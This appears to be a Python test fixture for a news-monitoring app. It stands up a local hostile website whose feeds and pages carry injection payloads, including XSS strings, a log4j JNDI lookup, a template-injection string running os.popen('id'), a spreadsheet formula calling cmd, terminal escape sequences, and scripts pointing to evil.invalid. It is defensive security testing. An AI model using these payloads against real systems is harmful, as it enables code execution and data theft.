"""A home that watches a hostile site: markup, scripts, formulas and controls wherever a site can put text."""

from __future__ import annotations

import html
import random
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from email.utils import format_datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import quote

from pipeline.app import App
from pipeline.cli.sampling import allow_loopback
from pipeline.config import read_settings
from pipeline.home import make_home
from pipeline.types import FeedSpec, Source
from tests.watch import Watch

# Each would change `document.title` or open a dialog if it ran anywhere.
PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "'><svg onload=alert(3)>",
    "<style>body{display:none}</style><link rel=stylesheet href=//evil.invalid/a.css>",
    '<noscript><p title="</noscript><img src=x onerror=alert(4)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(5)&gt;">',
    "</title></textarea></select></svg><iframe src=javascript:alert(6)></iframe>",
    "<em>hit</em><mark class=hit>hit</mark>{{7*7}}${jndi:ldap://evil.invalid/a}%s{0.__class__}",
    "=cmd|'/C calc'!A0 @SUM(1+1) +1 -1",
    "\u202egnp.exe\u202c \u2066\u200f\u0301\u0301\u0301\u0301\u0301\u0301\u0301\ufeff\U000e0041",
    "\x1b]52;c;ZXZpbA==\x07\x1b[31mred",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}{% for x in range(9) %}",
    "W" * 3_000,
)
QUERIES = (
    *PAYLOADS[:-1],
    "*foo", "*", "a*", "/.{1000}(a|a)*$/", "foo~2", "AND AND", "NOT nato", "_source:x", "_id:*", "field:", '"', ")(",
    "(" * 300, "\U0001f4f0 \u05d0\u05d1", "a OR " * 600, "İ ß ς Ａ", "published:[* TO *]", 'speaker:""',
    "name:<script>",
)  # fmt: skip
FEED_URLS = ("javascript:alert(7)", "data:text/html,<script>alert(8)</script>", "//evil.invalid/x")


@contextmanager
def open_hostile_home(folder: Path) -> Iterator[App]:
    """The site watched from baseline on, with a rule that rings for all that came after it."""
    settings = allow_loopback(read_settings(folder))
    make_home(settings)
    (folder / "rules" / "evil.toml").write_text(
        f'id = "evil"\ntitle = {to_toml(PAYLOADS[0] + PAYLOADS[1])}\nquery = "harbour OR said:tide"\n'
        f'owner = {to_toml(PAYLOADS[2])}\nchannels = ["stdout"]\n'
    )
    watch = Watch()
    app = App(settings, clock=watch)
    site = HostileSite()
    with serve(site) as base:
        source = Source(id="evil", name=PAYLOADS[1], domain="127.0.0.1")
        app.store.add_feeds([FeedSpec(id="evil", url=f"{base}/feed", name=PAYLOADS[0], source=source)], now=watch())
        for items in (1, len(PAYLOADS), len(PAYLOADS)):
            site.items = items
            app.store.poll_now(now=watch())
            list(app.run_pass(app.pace()))
            watch.advance(60)
        yield app
    app.close()


class HostileSite:
    """How many of the articles are out."""

    items = 0

    def answer(self, path: str, base: str) -> tuple[str, str]:
        if path == "/feed":
            return "application/rss+xml", write_feed(base, self.items)
        if path == "/robots.txt":
            return "text/plain", "User-agent: *\nAllow: /\n"
        number = int(path.rpartition("/")[2])
        return "text/html; charset=utf-8", write_page(number, PAYLOADS[number], base)


def write_feed(base: str, count: int) -> str:
    when = format_datetime(datetime.now(UTC) - timedelta(minutes=5))
    items = "".join(
        f"<item><title>{to_xml(payload)}</title><link>{base}/p/{number}</link><guid>{to_xml(payload[:80])}{number}</guid>"
        f"<pubDate>{when}</pubDate><author>{to_xml(payload)}</author><category>{to_xml(payload)}</category>"
        f"<description>{to_xml(payload)}</description></item>"
        for number, payload in enumerate(PAYLOADS[:count])
    )
    links = "".join(f"<item><title>x</title><link>{to_xml(url)}</link></item>" for url in FEED_URLS)
    return f"<rss version='2.0'><channel><title>{to_xml(PAYLOADS[0])}</title>{items}{links}</channel></rss>"


def write_page(number: int, payload: str, base: str) -> str:
    shown = html.escape(payload)
    text = (
        f"<p>The harbour master of Velmora, {shown}, closed the harbour on Tuesday 24 November 2026. {shown}</p>"
        f"<p>\u201cThe tide {shown} cannot wait,\u201d said Deputy Minister Ada {shown} Voss on Monday.</p>"
        f"<p>\u201cNobody asked the harbour for {shown} tide {number},\u201d Ada Voss told reporters in Velmora.</p>"
        f"<p>{write_filler(number)}</p>"
    )
    return (
        f"<!doctype html><html><head><title>{shown} harbour {number}</title>"
        f"<meta name=author content='{shown}'><meta http-equiv=refresh content='0;url=https://evil.invalid/'>"
        f"<link rel=canonical href='{base}/p/{number}?{quote(payload[:200])}'><base href=//evil.invalid/>"
        "<script>document.title='pwned';alert(9);parent.document.title='pwned'</script>"
        "<script src=//evil.invalid/a.js></script></head>"
        f"<body onload=alert(10)><article><h1>{shown} harbour {number}</h1>{text}<img src=x onerror=alert(11)>"
        "<img src=https://evil.invalid/pixel.gif><iframe src=javascript:alert(12)></iframe>"
        "<form action=https://evil.invalid/><button autofocus>x</button></form><a href=javascript:alert(13)>x</a>"
        f"</article>{payload if '<' in payload else ''}</body></html>"
    )


def write_filler(number: int) -> str:
    """Sentences that no other article has, so that none is taken for a reprint of another."""
    draw = random.Random(number)
    sounds = ("bdfgklmnprst", "aeiou", "lmnrs", "aeo")
    words = ["".join(map(draw.choice, sounds)) for _ in range(160)]
    return " ".join(" ".join(words[at : at + 16]).capitalize() + "." for at in range(0, 160, 16))


def to_xml(text: str) -> str:
    return html.escape("".join(c for c in text if c.isprintable() or c == " " or c in "\u202e\u202c\u2066\u200f"))


def to_toml(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


@contextmanager
def serve(site: HostileSite) -> Iterator[str]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            kind, text = site.answer(self.path.partition("?")[0], f"http://127.0.0.1:{server.server_port}")
            body = text.encode("utf-8", "replace")
            self.send_response(200)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *arguments: object) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
